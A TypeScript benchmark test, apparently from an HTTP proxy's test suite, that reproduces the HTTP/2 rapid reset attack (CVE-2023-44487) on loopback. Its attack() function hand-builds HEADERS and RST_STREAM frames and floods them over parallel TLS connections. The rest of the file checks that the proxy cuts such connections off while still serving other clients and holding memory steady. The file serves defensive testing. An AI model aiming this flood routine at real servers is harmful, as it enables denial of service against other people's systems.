// HTTP/2 rapid reset (CVE-2023-44487): requests that are taken back as soon as they are sent, over connection after
// connection. Each connection is ended after a few hundred, others are served meanwhile, and memory stays.
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';
import type { BenchContext } from '../context.js';
import { residentBytes } from '../cpu.js';
import { Bars } from './bars.js';
import { startPages } from './pages.js';
import { metric, startStage } from './stage.js';
import { during, startWellBehaved } from './well-behaved.js';

const attackMs = 10_000;
const connectionsAtOnce = 10;
/** Requests of a connection that reach the road: 200 taken back at once end it, and a few are under way by then. */
const requestsMax = 400;
const batch = 100;
const others = '127.0.0.3';
const leastP99Ms = 5;

const frameTypes = { headers: 1, reset: 3, settings: 4 } as const;
const [endStream, endHeaders] = [1, 4] as const;
const cancel = Buffer.from([0, 0, 0, 8]);

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Literals that are not indexed, without Huffman's code (RFC 7541 section 6.2.2); all shorter than 127 bytes. */
function encode(fields: readonly (readonly [string, string])[]): Buffer {
  const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value, 'latin1')]);
  return Buffer.concat(fields.flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]));
}

const fields = encode([
  [':method', 'GET'],
  [':scheme', 'https'],
  [':authority', 'bench.example.org'],
  [':path', '/shop/items'],
  ['user-agent', 'bench'],
  ['accept', '*/*'],
]);
const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'),
  frame(frameTypes.settings, 0, 0, Buffer.alloc(0)),
]);

interface Ended {
  /** Requests that it sent and took back. */
  readonly sent: number;
  /** By the other side, before its time was over. */
  readonly wasEnded: boolean;
}

/** Sends and takes back until the connection is ended or the time is over. Libraries would wait for a place. */
function attack(port: number, endMs: number): Promise<Ended> {
  return new Promise((resolve) => {
    let sent = 0;
    let isOver = false;
    const plain = connect({ port, host: '127.0.0.1', localAddress: '127.0.0.2' });
    const socket = connectTls({ socket: plain, ALPNProtocols: ['h2'], rejectUnauthorized: false });
    const finish = (wasEnded: boolean): void => {
      if (isOver) return;
      isOver = true;
      clearTimeout(alarm);
      plain.destroy();
      socket.destroy();
      resolve({ sent, wasEnded });
    };
    const alarm = setTimeout(() => finish(false), Math.max(0, endMs - performance.now()));
    plain.on('error', () => {}); // "close" follows
    socket.on('error', () => {});
    plain.on('close', () => finish(true));
    socket.on('close', () => finish(true));
    socket.resume();
    const turn = (): void => {
      if (isOver) return;
      const frames: Buffer[] = [];
      for (let n = 0; n < batch; n += 1, sent += 1) {
        const stream = 2 * sent + 1;
        frames.push(frame(frameTypes.headers, endHeaders | endStream, stream, fields));
        frames.push(frame(frameTypes.reset, 0, stream, cancel));
      }
      if (socket.write(Buffer.concat(frames))) setImmediate(turn);
      else socket.once('drain', turn);
    };
    socket.once('secureConnect', () => {
      socket.write(preface);
      turn();
    });
  });
}

export async function edgeRapidResetCase(context: BenchContext): Promise<void> {
  const bars = new Bars(context, 'edge-rapid-reset');
  const backend = await startPages();
  const { system, tlsPort, stop } = await startStage(context, backend, { workers: 2, settings: {} });
  try {
    const { port, pid } = system;
    await during({ port, from: others }, 3000);
    const quiet = await during({ port, from: others }, 6000);
    const before = await metric(system, 'gatehouse_requests_total');
    const beside = startWellBehaved({ port, from: others });
    const endMs = performance.now() + attackMs;
    const ends: Ended[] = [];
    const peaks = [0, 0]; // MB, of either half
    const timer = setInterval(() => {
      const half = performance.now() > endMs - attackMs / 2 ? 1 : 0;
      peaks[half] = Math.max(peaks[half] as number, residentBytes(pid) / 1e6);
    }, 200);
    const loop = async (): Promise<void> => {
      while (performance.now() < endMs) ends.push(await attack(tlsPort, endMs));
    };
    await Promise.all(Array.from({ length: connectionsAtOnce }, loop));
    clearInterval(timer);
    const served = await beside.stop();
    const spared = ends.filter(({ wasEnded }) => !wasEnded).length;
    const counted = await metric(system, 'gatehouse_http2_connections_ended_total');
    const requests = (await metric(system, 'gatehouse_requests_total')) - before - served.asked;
    bars.tell('most requests that a connection had sent by its end', '', Math.max(...ends.map(({ sent }) => sent)));
    bars.tell('connections that attacked', '', ends.length);
    bars.tell('connections ended for an excess, by the metrics', '', counted);
    bars.tell("others' p99 while it is quiet", 'ms', quiet.p99Ms);
    // those of the last moment had no time to be ended
    bars.check('connections that attacked and were not ended', '', spared, { most: connectionsAtOnce });
    bars.check('requests that a connection brought to the road', '', requests / ends.length, { most: requestsMax });
    bars.check('requests of others that were refused', '', served.refused, { exact: 0 });
    const waits = served.p99Ms / Math.max(leastP99Ms, quiet.p99Ms);
    bars.check('others wait, beside what is usual', 'times', waits, { most: 20 });
    bars.check('memory of the second half beside the first', 'times', (peaks[1] as number) / (peaks[0] as number), {
      most: 1.15,
    });
  } finally {
    await stop();
    await backend.stop();
  }
  bars.finish();
}
